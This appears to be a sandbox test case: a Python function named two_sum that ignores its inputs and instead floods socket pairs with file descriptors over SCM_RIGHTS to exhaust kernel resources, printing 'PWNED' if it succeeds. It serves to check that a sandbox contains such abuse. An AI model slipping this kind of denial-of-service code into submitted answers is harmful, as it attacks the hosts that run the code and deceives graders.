# Descriptors sent to oneself and never received cannot pile up in the kernel.
# kind: resource
# expect: wrong error crashed timeout memory
CANARY_DIR = "@DIR@"
PORT = 0

import array
import os
import socket


def two_sum(nums, target):
    flying = 0
    try:
        pairs = [socket.socketpair() for _ in range(12)]
        for a, _ in pairs:
            a.setblocking(False)
        while flying < 200000:
            before = flying
            for a, b in pairs:
                try:
                    a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [b.fileno()] * 100))])
                    flying += 100
                except (OSError, BlockingIOError):
                    pass
            if flying == before:
                break
    except (OSError, AttributeError):
        pass
    if flying > 20000:
        print("PWNED: in flight", flying)
    return None
